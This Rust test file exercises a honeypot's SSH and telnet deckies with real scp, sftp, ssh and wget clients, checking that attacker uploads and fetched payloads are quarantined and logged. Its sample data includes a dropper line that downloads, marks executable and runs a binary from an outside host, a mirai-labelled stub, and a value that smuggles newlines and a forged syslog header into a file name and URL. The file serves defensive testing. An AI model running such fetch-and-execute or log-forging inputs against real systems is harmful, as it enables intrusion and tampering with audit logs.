//! What attackers bring to a native decky, end to end with real clients:
//! OpenSSH's `scp` (legacy `-O` and the sftp-based default) and `sftp`
//! under `sshpass`, the fake shell's `wget` against Python's
//! `http.server` on loopback. The lines come back over the collector's
//! wire (RFC 6587 octet counting) and are parsed with the fleet's RFC 5424
//! parser; the quarantine is a temporary folder.

mod native_support;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use decnet::events::rfc5424::SyslogLine;
use decnet::mutator::drivers::{Change, DeployDriver};
use decnet::mutator::native::{NativeDriver, NativeOptions};
use native_support::{sd, Receiver};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Ports at default + 10000, so nothing needs root.
const OFFSET: u16 = 10_000;
const PASSWORD: &str = "hunter2";

fn msgid(line: &SyslogLine) -> &str {
    line.msgid.as_deref().unwrap_or("")
}

fn sha256(bytes: &[u8]) -> String {
    decnet::decky::artifacts::sha256_hex(bytes)
}

/// A live native driver with one ssh decky at `ip`, its quarantine in `dir`.
async fn decky(rx: &Receiver, name: &str, ip: &str, dir: &Path, fetch: Option<(&[&str], &[&str])>) -> NativeDriver {
    decky_serving(rx, name, ip, dir, fetch, "ssh").await
}

async fn decky_serving(
    rx: &Receiver,
    name: &str,
    ip: &str,
    dir: &Path,
    fetch: Option<(&[&str], &[&str])>,
    service: &str,
) -> NativeDriver {
    let mut o = NativeOptions::new(rx.addr, b"capture test seed".to_vec());
    o.port_offset = OFFSET;
    o.limits.idle = Duration::from_secs(20);
    o.personas.insert(
        name.to_string(),
        serde_json::json!({ "release": "debian-12", "permit_root_login": "yes",
                            "auth": { "accept_after": [1, 1], "credentials": [] } }),
    );
    o.addresses.insert(name.to_string(), ip.parse().unwrap());
    o.artifacts = Some(dir.to_path_buf());
    if let Some((allow, deny)) = fetch {
        let list = |l: &[&str]| l.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        o.fetch.enabled = true;
        o.fetch.policy = decnet::decky::net_policy::CidrPolicy::parse(&list(allow), &list(deny)).unwrap();
        o.fetch.timeout = Duration::from_secs(10);
    }
    let driver = NativeDriver::live(o, None);
    let services = vec![service.to_string()];
    driver.apply(&Change { project: "fleet", decky: name, services: &services, fleet: &[] }).await.unwrap();
    if service != "ssh" {
        return driver;
    }
    // The first session waits for the host keys (RSA takes seconds): wait
    // for the banner here, so the clients' timeouts measure SSH only.
    let mut s = TcpStream::connect((ip, 22 + OFFSET)).await.unwrap();
    let mut b = [0u8; 64];
    tokio::time::timeout(Duration::from_secs(120), s.read(&mut b)).await.expect("ssh banner").unwrap();
    driver
}

const SSH_OPTIONS: [&str; 10] = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "PubkeyAuthentication=no",
    "-o",
    "NumberOfPasswordPrompts=1",
];

/// Run an OpenSSH tool (`ssh`, `scp`, `sftp`) under sshpass, 60 s at most.
async fn tool(program: &str, args: &[&str]) -> std::process::Output {
    tool_with_input(program, args, None).await
}

/// As [`tool`], with `input` on the tool's stdin (sftp's commands: `-b`
/// would turn password authentication off).
async fn tool_with_input(program: &str, args: &[&str], input: Option<&str>) -> std::process::Output {
    let mut child = tokio::process::Command::new("sshpass")
        .arg("-p")
        .arg(PASSWORD)
        .arg(program)
        .args(SSH_OPTIONS)
        .args(args)
        .stdin(if input.is_some() { Stdio::piped() } else { Stdio::null() })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("sshpass and the OpenSSH client are installed by scripts/test.sh");
    if let Some(input) = input {
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(input.as_bytes()).await.unwrap();
    }
    tokio::time::timeout(Duration::from_secs(60), child.wait_with_output()).await.expect("tool finished").unwrap()
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// The upload `artifact` line for `path`, checked against `content` and the quarantine.
async fn upload_artifact(rx: &Receiver, dir: &Path, path: &str, content: &[u8]) -> SyslogLine {
    let line =
        rx.wait_for(&format!("artifact {path}"), |l| msgid(l) == "artifact" && sd(l, "path") == Some(path)).await;
    assert_eq!(sd(&line, "source"), Some("upload"));
    assert_eq!(sd(&line, "url"), None, "only a fetched payload has a url");
    assert_eq!(sd(&line, "sha256"), Some(sha256(content).as_str()));
    assert_eq!(sd(&line, "size"), Some(content.len().to_string().as_str()));
    let kept = dir.join(sha256(content));
    assert_eq!(std::fs::read(&kept).unwrap(), content, "the quarantine holds the bytes under their sha256");
    assert_eq!(mode(&kept), 0o600, "never executable");
    line
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scp_and_sftp_uploads_are_captured_and_downloads_come_from_the_session() {
    let rx = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let quarantine = tmp.path().join("artifacts");
    let driver = decky(&rx, "files", "127.1.70.1", &quarantine, None).await;
    let port = (22 + OFFSET).to_string();
    let local = tmp.path().join("dropper.sh");
    let payload = b"#!/bin/sh\ncd /tmp && echo pwned\n".to_vec();
    std::fs::write(&local, &payload).unwrap();
    let local_s = local.to_str().unwrap();

    // Legacy scp (`scp -t` over exec) up, then down from the same host.
    let out = tool("scp", &["-O", "-P", &port, local_s, "root@127.1.70.1:/tmp/"]).await;
    assert!(out.status.success(), "{out:?}");
    let line = upload_artifact(&rx, &quarantine, "/tmp/dropper.sh", &payload).await;
    assert_eq!(sd(&line, "mime"), Some("text/x-shellscript"));
    assert_eq!(line.hostname.as_deref(), Some("files"));
    let hostname = tmp.path().join("hostname");
    let out = tool("scp", &["-O", "-P", &port, "root@127.1.70.1:/etc/hostname", hostname.to_str().unwrap()]).await;
    assert!(out.status.success(), "{out:?}\n{}", rx.lines.lock().unwrap().join("\n"));
    assert_eq!(std::fs::read_to_string(&hostname).unwrap(), "files\n", "the persona's /etc/hostname");
    let out = tool("scp", &["-O", "-P", &port, "root@127.1.70.1:/nonexistent", hostname.to_str().unwrap()]).await;
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("No such file or directory"), "{out:?}");

    // Today's scp goes over sftp.
    let binary: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
    let bin = tmp.path().join("miner");
    std::fs::write(&bin, &binary).unwrap();
    let out = tool("scp", &["-v", "-P", &port, bin.to_str().unwrap(), "root@127.1.70.1:/root/miner"]).await;
    assert!(out.status.success(), "{out:?}");
    let line = upload_artifact(&rx, &quarantine, "/root/miner", &binary).await;
    assert_eq!(sd(&line, "mime"), Some("application/octet-stream"));

    // sftp: put, ls, get in one session; the file read back is the one put.
    let back = tmp.path().join("back.sh");
    let script = format!("cd /tmp\nput {local_s} kit.sh\nls -l\nget kit.sh {}\nmkdir d\nls\n", back.display());
    let out = tool_with_input("sftp", &["-P", &port, "root@127.1.70.1"], Some(&script)).await;
    assert!(out.status.success(), "{out:?}");
    let listing = String::from_utf8_lossy(&out.stdout);
    // `ls -l` as sftp prints it from the server's long names.
    let kit =
        listing.lines().find(|l| l.starts_with('-') && l.ends_with(" kit.sh")).unwrap_or_else(|| panic!("{listing}"));
    assert!(kit.starts_with("-rw-r--r--") && kit.contains(&format!(" {} ", payload.len())), "{kit}");
    // The last `ls` lists the folder made and the file put.
    let last = listing.rsplit("sftp> ls\n").next().unwrap();
    let names: Vec<&str> = last.split_whitespace().collect();
    assert!(names.contains(&"d") && names.contains(&"kit.sh"), "{listing}");
    assert_eq!(std::fs::read(&back).unwrap(), payload);
    upload_artifact(&rx, &quarantine, "/tmp/kit.sh", &payload).await;
    // Each session sees its own filesystem: the kit uploaded by scp is not
    // in a new sftp session's /tmp, the persona's files are.
    let out = tool_with_input("sftp", &["-P", &port, "root@127.1.70.1"], Some("ls /tmp\nls /etc/hostname\n")).await;
    assert!(out.status.success(), "{out:?}");
    let listing = String::from_utf8_lossy(&out.stdout);
    assert!(!listing.contains("dropper.sh") && listing.contains("/etc/hostname"), "{out:?}");
    // Two artifacts with the same bytes are one file in quarantine.
    let kept: Vec<_> = std::fs::read_dir(&quarantine).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(kept.len(), 2, "{kept:?}");
    driver.shutdown().await;
}

/// Python's http.server on a free loopback port, serving `root`.
struct HttpServer {
    port: u16,
    _child: tokio::process::Child,
}

async fn http_server(root: &Path) -> HttpServer {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let child = tokio::process::Command::new("python3")
        .args(["-m", "http.server", &port.to_string(), "--bind", "127.0.0.1", "--directory"])
        .arg(root)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("python3 is installed by scripts/test.sh");
    let deadline = Instant::now() + Duration::from_secs(10);
    while TcpStream::connect(("127.0.0.1", port)).await.is_err() {
        assert!(Instant::now() < deadline, "http.server did not start");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    HttpServer { port, _child: child }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wget_payloads_are_fetched_only_when_the_policy_allows() {
    let rx = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let www = tmp.path().join("www");
    std::fs::create_dir(&www).unwrap();
    let payload = b"#!/bin/sh\nwget http://198.51.100.7/bins/x86 -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x\n".to_vec();
    std::fs::write(www.join("x.sh"), &payload).unwrap();
    let server = http_server(&www).await;
    let url = format!("http://127.0.0.1:{}/x.sh", server.port);
    let port = (22 + OFFSET).to_string();

    // Fetching on for loopback: the payload is fetched, kept and shown.
    let q_on = tmp.path().join("q-on");
    let on = decky(&rx, "fetcher", "127.1.71.1", &q_on, Some((&["127.0.0.0/8"], &[]))).await;
    let out = tool("ssh", &["-p", &port, "root@127.1.71.1", &format!("cd /tmp && wget {url}")]).await;
    assert_eq!(out.status.code(), Some(4), "the shell's wget answers as it always does: {out:?}");
    let host = |l: &SyslogLine, h: &str| l.hostname.as_deref() == Some(h);
    let download = rx.wait_for("download (on)", |l| host(l, "fetcher") && msgid(l) == "download").await;
    assert_eq!(sd(&download, "url"), Some(url.as_str()));
    assert_eq!(sd(&download, "tool"), Some("wget"));
    assert_eq!(sd(&download, "path"), Some("/tmp/x.sh"));
    assert_eq!(sd(&download, "fetch"), Some("stored"));
    let artifact = rx.wait_for("artifact (on)", |l| host(l, "fetcher") && msgid(l) == "artifact").await;
    assert_eq!(sd(&artifact, "source"), Some("url"));
    assert_eq!(sd(&artifact, "url"), Some(url.as_str()));
    assert_eq!(sd(&artifact, "path"), Some("/tmp/x.sh"));
    assert_eq!(sd(&artifact, "sha256"), Some(sha256(&payload).as_str()));
    assert_eq!(sd(&artifact, "size"), Some(payload.len().to_string().as_str()));
    assert_eq!(sd(&artifact, "mime"), Some("text/x-shellscript"));
    assert_eq!(sd(&artifact, "sid"), sd(&download, "sid"));
    let kept = q_on.join(sha256(&payload));
    assert_eq!(std::fs::read(&kept).unwrap(), payload);
    assert_eq!(mode(&kept), 0o600);

    // In a shell session the file is where wget would have left it for the
    // commands that follow.
    let mut child = tokio::process::Command::new("sshpass")
        .args(["-p", PASSWORD, "ssh"])
        .args(SSH_OPTIONS)
        .args(["-T", "-p", &port, "root@127.1.71.1"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(format!("cd /tmp; wget -q {url} -O kit.sh\n").as_bytes()).await.unwrap();
    rx.wait_for("artifact of the shell session", |l| {
        host(l, "fetcher") && msgid(l) == "artifact" && sd(l, "path") == Some("/tmp/kit.sh")
    })
    .await;
    stdin.write_all(b"ls -l /tmp/kit.sh; sha256sum /tmp/kit.sh\nexit\n").await.unwrap();
    drop(stdin);
    let out = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output()).await.unwrap().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    let ls = shown.lines().find(|l| l.ends_with("/tmp/kit.sh")).unwrap_or_else(|| panic!("{out:?}"));
    assert!(ls.starts_with("-rw-r--r-- 1 root root ") && ls.contains(&format!(" {} ", payload.len())), "{ls}");
    assert!(shown.contains(&format!("{}  /tmp/kit.sh", sha256(&payload))), "{shown}");
    on.shutdown().await;

    // Fetching off (the default): only the URL is recorded.
    let q_off = tmp.path().join("q-off");
    let off = decky(&rx, "recorder", "127.1.72.1", &q_off, None).await;
    let out = tool("ssh", &["-p", &port, "root@127.1.72.1", &format!("wget {url}")]).await;
    assert_eq!(out.status.code(), Some(4));
    let download = rx.wait_for("download (off)", |l| host(l, "recorder") && msgid(l) == "download").await;
    assert_eq!(sd(&download, "fetch"), Some("off"));
    assert_eq!(sd(&download, "path"), Some("/root/x.sh"));
    // The session is over once session_recorded is written: nothing more can come.
    rx.wait_for("end (off)", |l| {
        host(l, "recorder") && msgid(l) == "session_recorded" && sd(l, "sid") == sd(&download, "sid")
    })
    .await;
    assert!(!rx.parsed().iter().any(|l| host(l, "recorder") && msgid(l) == "artifact"));
    assert_eq!(std::fs::read_dir(&q_off).unwrap().count(), 0, "nothing stored");
    off.shutdown().await;

    // Fetching on, but this address denied: refused before connecting.
    let q_deny = tmp.path().join("q-deny");
    let deny = decky(&rx, "denier", "127.1.73.1", &q_deny, Some((&["127.0.0.0/8"], &["127.0.0.1/32"]))).await;
    let out = tool("ssh", &["-p", &port, "root@127.1.73.1", &format!("curl -O {url}")]).await;
    // curl given an address that cannot be reached: "Failed to connect", 7.
    assert_eq!(out.status.code(), Some(7));
    let download = rx.wait_for("download (denied)", |l| host(l, "denier") && msgid(l) == "download").await;
    assert_eq!(sd(&download, "tool"), Some("curl"));
    assert_eq!(sd(&download, "fetch"), Some("denied address 127.0.0.1 not allowed"));
    rx.wait_for("end (denied)", |l| {
        host(l, "denier") && msgid(l) == "session_recorded" && sd(l, "sid") == sd(&download, "sid")
    })
    .await;
    assert!(!rx.parsed().iter().any(|l| host(l, "denier") && msgid(l) == "artifact"));
    assert_eq!(std::fs::read_dir(&q_deny).unwrap().count(), 0, "nothing stored");
    deny.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_and_urls_stay_inside_their_line() {
    let rx = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let quarantine = tmp.path().join("artifacts");
    let driver = decky(&rx, "hostile", "127.1.74.1", &quarantine, Some((&["127.0.0.0/8"], &[]))).await;
    let port = (22 + OFFSET).to_string();
    // A file name and a URL carrying a newline, a forged syslog header and
    // an SD terminator; echo writes the file (an upload artifact), wget
    // asks for the URL (refused: nothing listens on port 1).
    let command = r#"f="$(printf 'a\n<13>1 2024-01-01T00:00:00Z forged app - artifact [relay@55555 sha256=\"0\"] x')"; echo payload > "/tmp/$f"; wget "http://127.0.0.1:1/$(printf 'q\r\n<13>1 forged')]\"" -O /tmp/w"#;
    let out = tool("ssh", &["-p", &port, "root@127.1.74.1", command]).await;
    assert_eq!(out.status.code(), Some(4), "{out:?}");
    let artifact = rx.wait_for("artifact", |l| msgid(l) == "artifact").await;
    assert!(sd(&artifact, "path").unwrap().starts_with("/tmp/a\n<13>1 2024"), "{artifact:?}");
    assert_eq!(sd(&artifact, "sha256"), Some(sha256(b"payload\n").as_str()));
    let download = rx.wait_for("download", |l| msgid(l) == "download").await;
    assert!(sd(&download, "url").unwrap().contains("q\r\n<13>1 forged]\""), "{download:?}");
    assert!(sd(&download, "fetch").unwrap().starts_with("failed "), "{download:?}");
    rx.wait_for("end", |l| msgid(l) == "session_recorded").await;
    // Every frame is one line that parses (parsed() would fail otherwise),
    // none was forged, and no raw control character left its field.
    let lines = rx.lines.lock().unwrap().clone();
    for raw in &lines {
        assert!(!raw.contains('\n') && !raw.contains('\r'), "{raw:?}");
    }
    let parsed = rx.parsed();
    assert!(parsed.iter().all(|l| l.hostname.as_deref() == Some("hostile")), "{lines:?}");
    assert_eq!(parsed.iter().filter(|l| msgid(l) == "artifact").count(), 1, "{lines:?}");
    driver.shutdown().await;
}

/// Read from `s` until `needle` shows (10 s at most); what was read.
async fn read_until(s: &mut TcpStream, needle: &str) -> String {
    let mut got = Vec::new();
    let mut chunk = [0u8; 4096];
    let deadline = Instant::now() + Duration::from_secs(10);
    while !String::from_utf8_lossy(&got).contains(needle) {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, s.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => got.extend_from_slice(&chunk[..n]),
            other => panic!("waiting for {needle:?}: {other:?}; got {:?}", String::from_utf8_lossy(&got)),
        }
    }
    String::from_utf8_lossy(&got).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_telnet_session_captures_what_it_writes_and_fetches() {
    let rx = Receiver::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let www = tmp.path().join("www");
    std::fs::create_dir(&www).unwrap();
    let payload = b"\x7fELF\x01\x01\x01\0mirai".to_vec();
    std::fs::write(www.join("mips"), &payload).unwrap();
    let server = http_server(&www).await;
    let quarantine = tmp.path().join("artifacts");
    let driver = decky_serving(&rx, "tel", "127.1.75.1", &quarantine, Some((&["127.0.0.0/8"], &[])), "telnet").await;
    let mut s = TcpStream::connect(("127.1.75.1", 23 + OFFSET)).await.unwrap();
    // netkit telnetd's opening; refuse every option, as a dumb client does.
    let mut opening = [0u8; 12];
    tokio::time::timeout(Duration::from_secs(10), s.read_exact(&mut opening)).await.unwrap().unwrap();
    s.write_all(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27").await.unwrap();
    read_until(&mut s, "login: ").await;
    s.write_all(b"root\r\n").await.unwrap();
    read_until(&mut s, "Password: ").await;
    s.write_all(format!("{PASSWORD}\r\n").as_bytes()).await.unwrap();
    read_until(&mut s, "# ").await;

    // A file written in the shell is an upload artifact.
    s.write_all(b"printf '\\x7fELF\\x02' > /tmp/bot; chmod +x /tmp/bot\r\n").await.unwrap();
    read_until(&mut s, "# ").await;
    let upload = rx.wait_for("upload artifact", |l| msgid(l) == "artifact" && sd(l, "source") == Some("upload")).await;
    assert_eq!(upload.app_name.as_deref(), Some("telnet"));
    assert_eq!(sd(&upload, "path"), Some("/tmp/bot"));
    assert_eq!(sd(&upload, "mime"), Some("application/x-executable"));
    assert_eq!(sd(&upload, "sha256"), Some(sha256(b"\x7fELF\x02").as_str()));

    // A fetched payload shows in the session once stored.
    let url = format!("http://127.0.0.1:{}/mips", server.port);
    s.write_all(format!("cd /tmp; wget -q {url} -O m\r\n").as_bytes()).await.unwrap();
    read_until(&mut s, "# ").await;
    let artifact = rx.wait_for("url artifact", |l| msgid(l) == "artifact" && sd(l, "source") == Some("url")).await;
    assert_eq!(sd(&artifact, "path"), Some("/tmp/m"));
    assert_eq!(sd(&artifact, "sha256"), Some(sha256(&payload).as_str()));
    assert_eq!(sd(&artifact, "mime"), Some("application/x-executable"));
    assert_eq!(std::fs::read(quarantine.join(sha256(&payload))).unwrap(), payload);
    s.write_all(b"wc -c /tmp/m\r\n").await.unwrap();
    let shown = read_until(&mut s, "# ").await;
    assert!(shown.contains(&format!("{} /tmp/m", payload.len())), "{shown:?}");
    s.write_all(b"exit\r\n").await.unwrap();
    rx.wait_for("end", |l| msgid(l) == "session_recorded").await;
    driver.shutdown().await;
}
